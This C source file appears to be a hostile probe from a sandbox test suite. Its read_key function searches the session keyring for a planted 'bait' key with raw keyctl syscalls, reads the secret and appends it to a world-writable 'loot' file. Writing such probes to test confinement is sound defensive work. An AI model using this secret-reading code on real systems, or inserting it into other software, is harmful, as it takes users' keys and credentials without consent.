/* read_key: copies the host's key to SPOILS if the session keyring has it. */
#define _GNU_SOURCE
#include "hostile.h"

#include <fcntl.h>
#include <linux/keyctl.h>
#include <stdio.h>
#include <sys/syscall.h>
#include <unistd.h>

int read_key(int argc, char **argv) {
  (void)argc, (void)argv;
  char secret[64];
  long key = syscall(SYS_keyctl, KEYCTL_SEARCH, KEY_SPEC_SESSION_KEYRING, "user", "bait", 0);
  long size = key < 0 ? -1 : syscall(SYS_keyctl, KEYCTL_READ, key, secret, sizeof secret);
  int loot = size > 0 ? open(SPOILS "/loot", O_WRONLY | O_CREAT | O_APPEND, 0666) : -1;
  if (loot >= 0 && write(loot, secret, size) != size) perror("loot");
  puts("tried");
  return 0;
}
